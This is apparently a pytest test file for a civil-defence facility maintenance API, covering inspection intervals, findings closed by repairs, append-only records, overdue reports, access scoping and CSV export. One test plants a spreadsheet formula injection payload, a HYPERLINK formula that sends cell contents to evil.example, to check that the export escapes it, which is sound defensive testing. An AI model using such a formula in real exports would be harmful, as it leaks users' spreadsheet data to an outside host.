import csv
import io
import time
from datetime import date, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import text
from sqlalchemy.exc import DBAPIError


def record(kind="inspection", performed_on="2026-01-31", checks=None, **extra):
    return {
        "kind": kind,
        "performed_on": performed_on,
        "performed_by": "维护班组 张伟",
        "checks": checks or [{"item_code": "protective.blast_doors", "result": "ok"}],
        **extra,
    }


@pytest.fixture
def facility(create):
    return create()


@pytest.fixture
def post(client, facility):
    def send(body: dict, expected: int = 201) -> dict:
        response = client.post(f"/v1/facilities/{facility['id']}/maintenance", json=body)
        assert response.status_code == expected, response.text
        return response.json()

    return send


def test_the_catalogue_follows_the_provincial_standard(client):
    items = {i["code"]: i for i in client.get("/v1/maintenance/items").json()}
    assert {i["discipline"] for i in items.values()} == {
        "civil_works",
        "protective_equipment",
        "ventilation",
        "water_drainage_fuel",
        "electrical",
        "information_systems",
    }
    assert items["protective.blast_doors"]["interval_months"] == 1
    assert items["protective.airtight_valves"]["interval_months"] == 1
    assert items["ventilation.fans"]["interval_months"] == 1
    assert items["ventilation.gas_filters"]["interval_months"] == 24
    assert items["electrical.diesel_generator"]["interval_months"] == 6
    assert items["civil.special"]["interval_months"] == 12
    assert (
        max(i["interval_months"] for i in items.values() if i["discipline"] == "civil_works") <= 12
    )


def test_a_serious_finding_stays_open_until_a_repair_closes_it(client, facility, post):
    serious = {
        "item_code": "ventilation.fans",
        "result": "defect",
        "severity": "serious",
        "finding": "风机无法启动",
    }
    inspection = post(record(checks=[serious, {"item_code": "civil.structure", "result": "ok"}]))
    finding_id = inspection["checks"][0]["id"]
    findings_url = f"/v1/facilities/{facility['id']}/findings"
    assert [f["check_id"] for f in client.get(findings_url).json()] == [finding_id]

    close = {"item_code": "ventilation.fans", "result": "ok", "closes_id": finding_id}
    # Only a repair closes it; and only a serious finding of this facility can be closed.
    post(record(kind="inspection", checks=[close]), 422)
    post(record(kind="repair", checks=[{**close, "closes_id": inspection["checks"][1]["id"]}]), 422)
    assert client.get(findings_url).json() != []

    repair = post(record(kind="repair", performed_on="2026-02-10", checks=[close]))
    assert client.get(findings_url).json() == []
    closed = client.get(findings_url, params={"open": False}).json()
    assert closed[0]["closed_by_check_id"] == repair["checks"][0]["id"]
    post(record(kind="repair", checks=[close]), 422)  # already closed

    # Correcting the repair into one that closes nothing reopens the finding.
    post(
        record(
            kind="repair",
            performed_on="2026-02-10",
            corrects_id=repair["id"],
            checks=[{"item_code": "ventilation.fans", "result": "not_checked"}],
        )
    )
    assert [f["check_id"] for f in client.get(findings_url).json()] == [finding_id]


def test_records_are_append_only_and_corrected_by_new_records(client, facility, post, connection):
    wrong = post(record(performed_on="2026-03-01"))
    right = post(record(performed_on="2026-03-02", corrects_id=wrong["id"], note="日期记错"))
    post(record(corrects_id=wrong["id"]), 409)  # correct the latest, not the corrected
    post(record(corrects_id=999_999_999), 422)
    listed = {r["id"]: r for r in client.get(f"/v1/facilities/{facility['id']}/maintenance").json()}
    assert listed[wrong["id"]]["corrected_by_id"] == right["id"]
    assert listed[right["id"]]["corrects_id"] == wrong["id"]
    for statement in (
        "UPDATE maintenance_record SET performed_by = 'x'",
        "DELETE FROM maintenance_check",
    ):
        savepoint = connection.begin_nested()
        with pytest.raises(DBAPIError, match="append-only"):
            connection.execute(text(statement))
        savepoint.rollback()
    # No PATCH or DELETE route exists for records.
    url = f"/v1/facilities/{facility['id']}/maintenance"
    assert client.patch(url, json={}).status_code == 405


def test_record_validation(post):
    post(record(performed_on="2999-01-01"), 422)
    post(record(checks=[{"item_code": "no.such", "result": "ok"}]), 422)
    post(
        record(checks=[{"item_code": "civil.structure", "result": "ok", "severity": "major"}]), 422
    )
    post({**record(), "checks": []}, 422)


@pytest.mark.parametrize("day", ["1899-12-31", "2101-01-01"])
def test_days_outside_the_range(client_for, post, day):
    problem = post(record(performed_on=day), 422)
    assert problem["errors"] == [
        {"field": "body.performed_on", "message": "must lie between 1900-01-01 and 2100-12-31"}
    ]
    response = client_for("admin").get("/v1/maintenance/overdue", params={"on": day})
    assert response.status_code == 422
    assert [e["field"] for e in response.json()["errors"]] == ["query.on"]


def test_a_nul_in_a_finding_is_named(post):
    check = {"item_code": "ventilation.fans", "result": "defect", "severity": "minor"}
    problem = post(record(checks=[check, {**check, "finding": "风机\x00异响"}]), 422)
    assert [e["field"] for e in problem["errors"]] == ["body.checks.1.finding"]


def overdue(client_for, facility_id: int, on: str) -> dict[str, dict]:
    manager = client_for("manager", facility_ids=[facility_id])
    response = manager.get("/v1/maintenance/overdue", params={"on": on, "limit": 1000})
    assert response.status_code == 200, response.text
    return {i["item_code"]: i for i in response.json()["items"]}


def test_overdue_at_the_interval_edges(client_for, facility, post):
    post(
        record(
            performed_on="2026-01-31",
            checks=[
                {"item_code": "protective.blast_doors", "result": "ok"},  # monthly
                {"item_code": "civil.structure", "result": "ok"},  # quarterly
                {"item_code": "ventilation.fans", "result": "not_checked"},
            ],
        )
    )
    # Monthly from 31 January: due on 28 February, overdue from 1 March.
    assert "protective.blast_doors" not in overdue(client_for, facility["id"], "2026-02-28")
    late = overdue(client_for, facility["id"], "2026-03-01")["protective.blast_doors"]
    assert late["last_done_on"] == "2026-01-31" and late["overdue_since"] == "2026-03-01"
    # Quarterly: due on 30 April, overdue from 1 May.
    assert "civil.structure" not in overdue(client_for, facility["id"], "2026-04-30")
    assert (
        overdue(client_for, facility["id"], "2026-05-01")["civil.structure"]["overdue_since"]
        == "2026-05-01"
    )
    # An item marked not checked was not done.
    assert "ventilation.fans" not in overdue(client_for, facility["id"], "2026-02-28")


def test_never_checked_items_count_from_registration_and_corrections_count(
    client_for, facility, post
):
    registered = date.today()
    far = date(registered.year + 3, registered.month, 1).isoformat()
    everything = overdue(client_for, facility["id"], far)
    assert len(everything) == 16 and all(i["last_done_on"] is None for i in everything.values())
    assert not overdue(client_for, facility["id"], registered.isoformat())

    original = post(record(performed_on="2026-01-31"))
    post(record(performed_on="2026-02-15", corrects_id=original["id"]))
    assert "protective.blast_doors" not in overdue(client_for, facility["id"], "2026-03-10")
    assert (
        overdue(client_for, facility["id"], "2026-03-16")["protective.blast_doors"]["last_done_on"]
        == "2026-02-15"
    )


def test_overdue_pages_and_scopes(client_for, create, post, facility):
    other = create(
        admin_code="340111",
        location={"type": "Point", "coordinates": [117.30, 31.79]},
        entrances=[],
    )
    admin = client_for("admin")
    first = admin.get("/v1/maintenance/overdue", params={"on": "2035-01-01", "limit": 10}).json()
    assert len(first["items"]) == 10 and first["next_cursor"]
    second = admin.get(
        "/v1/maintenance/overdue",
        params={"on": "2035-01-01", "limit": 100, "cursor": first["next_cursor"]},
    ).json()
    pairs = [(i["facility_id"], i["item_code"]) for i in first["items"] + second["items"]]
    assert len(pairs) == len(set(pairs)) == 32
    shushan = (
        client_for("manager", admin_codes=["340104"])
        .get("/v1/maintenance/overdue", params={"on": "2035-01-01", "limit": 100})
        .json()
    )
    assert {i["facility_id"] for i in shushan["items"]} == {facility["id"]}
    baohe = admin.get(
        "/v1/maintenance/overdue", params={"on": "2035-01-01", "admin_code": "340111"}
    ).json()
    assert {i["facility_id"] for i in baohe["items"]} == {other["id"]}
    assert admin.get("/v1/maintenance/overdue", params={"cursor": "garbage"}).status_code == 400


def test_overdue_counted_per_division_agrees_with_the_list(client_for, create, facility):
    create(
        admin_code="340111",
        location={"type": "Point", "coordinates": [117.30, 31.79]},
        entrances=[],
    )
    admin = client_for("admin")
    on = {"on": "2035-01-01"}
    listed = admin.get("/v1/maintenance/overdue", params={**on, "limit": 1000}).json()["items"]
    expected: dict[str, tuple[set, int]] = {}
    for item in listed:
        facilities, items = expected.get(item["admin_code"], (set(), 0))
        expected[item["admin_code"]] = (facilities | {item["facility_id"]}, items + 1)
    assert set(expected) == {"340104", "340111"}
    cities = admin.get(
        "/v1/maintenance/overdue/summary", params={**on, "admin_code": "340000"}
    ).json()
    assert cities["groups"] == [
        {"code": "340100", "name": "合肥市", "facilities": 2, "items": len(listed)}
    ]
    districts = admin.get(
        "/v1/maintenance/overdue/summary", params={**on, "admin_code": "340100"}
    ).json()["groups"]
    assert {g["code"]: (g["facilities"], g["items"]) for g in districts} == {
        code: (len(facilities), items) for code, (facilities, items) in expected.items()
    }
    shushan = client_for("manager", admin_codes=["340104"]).get(
        "/v1/maintenance/overdue/summary", params={**on, "admin_code": "340100"}
    )
    assert [g["code"] for g in shushan.json()["groups"]] == ["340104"]
    assert client_for(None).get("/v1/maintenance/overdue/summary").status_code == 401
    unknown = admin.get("/v1/maintenance/overdue/summary", params={"admin_code": "999999"})
    assert unknown.status_code == 422 and "999999" in unknown.text


def test_findings_are_restricted(client_for, facility, post):
    post(record())
    url = f"/v1/facilities/{facility['id']}/maintenance"
    assert client_for(None).get(url).status_code == 401
    assert client_for("gis").get(url).status_code == 200
    assert client_for("manager", admin_codes=["340200"]).get(url).status_code == 403


def test_overdue_on_a_past_day_ignores_later_checks_and_comes_as_csv(client_for, facility, post):
    for day in ("2026-01-31", "2026-03-15"):
        post(
            record(
                performed_on=day, checks=[{"item_code": "protective.blast_doors", "result": "ok"}]
            )
        )
    late = overdue(client_for, facility["id"], "2026-03-01")["protective.blast_doors"]
    assert late["last_done_on"] == "2026-01-31"
    manager = client_for("manager", facility_ids=[facility["id"]])
    params = {"on": f"{date.today().year + 3}-01-01", "limit": 2}  # every item overdue
    page = manager.get("/v1/maintenance/overdue", params=params).json()
    response = manager.get("/v1/maintenance/overdue", params={**params, "f": "csv"})
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert [(r["facility_id"], r["item_code"]) for r in rows] == [
        (str(i["facility_id"]), i["item_code"]) for i in page["items"]
    ]
    assert page["next_cursor"] and page["next_cursor"] in response.headers["link"]


def test_a_name_like_a_formula_comes_as_text_in_the_overdue_csv(client_for, create):
    name = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
    facility = create(name=name)
    admin = client_for("admin")
    params = {"on": f"{date.today().year + 3}-01-01", "admin_code": "340104", "limit": 1000}
    rows = list(
        csv.DictReader(
            io.StringIO(admin.get("/v1/maintenance/overdue", params={**params, "f": "csv"}).text)
        )
    )
    names = {r["name"] for r in rows if r["facility_id"] == str(facility["id"])}
    assert names == {"'" + name}
    page = admin.get("/v1/maintenance/overdue", params=params).json()  # JSON as it is
    assert {i["name"] for i in page["items"] if i["facility_id"] == facility["id"]} == {name}


@pytest.fixture
def host_zone_apart_from_china(monkeypatch):
    """The process's local zone set so that its date differs from China's now: UTC-12
    (a day behind until 20:00 in Shanghai), else UTC+14 (a day ahead from 18:00)."""
    hour = datetime.now(ZoneInfo("Asia/Shanghai")).hour
    monkeypatch.setenv("TZ", "Etc/GMT+12" if hour < 20 else "Etc/GMT-14")
    time.tzset()
    yield
    monkeypatch.undo()
    time.tzset()


def test_today_is_chinas_whatever_the_hosts_zone(post, host_zone_apart_from_china):
    china = datetime.now(ZoneInfo("Asia/Shanghai")).date()
    assert date.today() != china  # the host's calendar is another day
    post(record(performed_on=china.isoformat()))
    problem = post(record(performed_on=(china + timedelta(days=1)).isoformat()), 422)
    assert problem["errors"] == [{"field": "performed_on", "message": "lies in the future"}]
